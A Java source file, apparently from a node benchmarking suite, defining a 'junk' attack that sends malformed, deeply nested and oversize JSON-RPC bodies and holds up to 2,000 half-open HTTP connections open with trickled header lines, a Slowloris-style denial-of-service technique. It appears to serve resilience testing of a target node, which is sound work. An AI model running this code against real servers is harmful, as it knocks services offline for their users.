package org.lumia.benchmarks.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.concurrent.locks.LockSupport;

/** Requests that are none, and connections that never finish theirs. */
final class JunkAttack implements Attack {
    private static final int CONNECTIONS = 8;
    private static final int HALF_OPEN_MAX = 2_000;
    private static final int CONNECT_MILLIS_MAX = 1_000;
    private static final int NESTING = 100_000;
    private static final int OVERSIZE_BYTES = 6 << 20;
    private static final long PAUSE_NANOS = 500_000_000;
    private static final byte[] UNFINISHED =
            "POST / HTTP/1.1\r\nHost: localhost\r\n".getBytes(StandardCharsets.US_ASCII);
    private static final byte[] HEADER_LINE = "X-Slow: 1\r\n".getBytes(StandardCharsets.US_ASCII);

    @Override
    public String name() {
        return "junk";
    }

    @Override
    public String what() {
        return "malformed, deep and oversize bodies over eight connections, beside 2,000 that send a header line now"
                + " and then";
    }

    @Override
    public void run(Target target, Tally tally) throws InterruptedException {
        byte[][] bodies = {
            "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":".getBytes(StandardCharsets.US_ASCII),
            "[".repeat(NESTING).getBytes(StandardCharsets.US_ASCII),
            "[1,\"a\",null,{},[]]".getBytes(StandardCharsets.US_ASCII),
            "{\"jsonrpc\":\"2.0\",\"id\":{\"a\":1},\"method\":7,\"params\":\"x\"}".getBytes(StandardCharsets.US_ASCII),
            zeros(OVERSIZE_BYTES),
        };
        Thread halfOpen = Parallel.attackers("half-open-").newThread(() -> halfOpen(target, tally));
        halfOpen.start();
        Parallel.post(target, CONNECTIONS, index -> bodies[(int) (index % bodies.length)], 1, tally);
        halfOpen.join();
    }

    private static byte[] zeros(int bytes) {
        byte[] zeros = new byte[bytes];
        Arrays.fill(zeros, (byte) '0');
        return zeros;
    }

    private static void halfOpen(Target target, Tally tally) {
        List<Socket> open = new ArrayList<>();
        while (!target.isOver()) {
            for (int i = open.size(); i < HALF_OPEN_MAX && !target.isOver(); i++) {
                try {
                    open.add(unfinished(target, target.from(i)));
                    tally.sent(1);
                } catch (IOException refused) {
                    tally.unanswered("no connection: " + refused.getClass().getSimpleName());
                    break;
                }
            }
            open.removeIf(socket -> !goesOn(socket, tally));
            LockSupport.parkNanos(PAUSE_NANOS);
        }
        open.forEach(JunkAttack::close);
    }

    private static Socket unfinished(Target target, Optional<InetAddress> from) throws IOException {
        var socket = new Socket();
        try {
            if (from.isPresent()) {
                socket.bind(new InetSocketAddress(from.get(), 0));
            }
            socket.connect(
                    new InetSocketAddress(target.url().getHost(), target.url().getPort()), CONNECT_MILLIS_MAX);
            socket.getOutputStream().write(UNFINISHED);
            return socket;
        } catch (IOException refused) {
            close(socket);
            throw refused;
        }
    }

    private static boolean goesOn(Socket socket, Tally tally) {
        try {
            socket.getOutputStream().write(HEADER_LINE);
            return true;
        } catch (IOException closed) {
            tally.unanswered("half-open connection closed by the node");
            close(socket);
            return false;
        }
    }

    private static void close(Socket socket) {
        try {
            socket.close();
        } catch (IOException gone) {
            // It is of no further use either way.
        }
    }
}
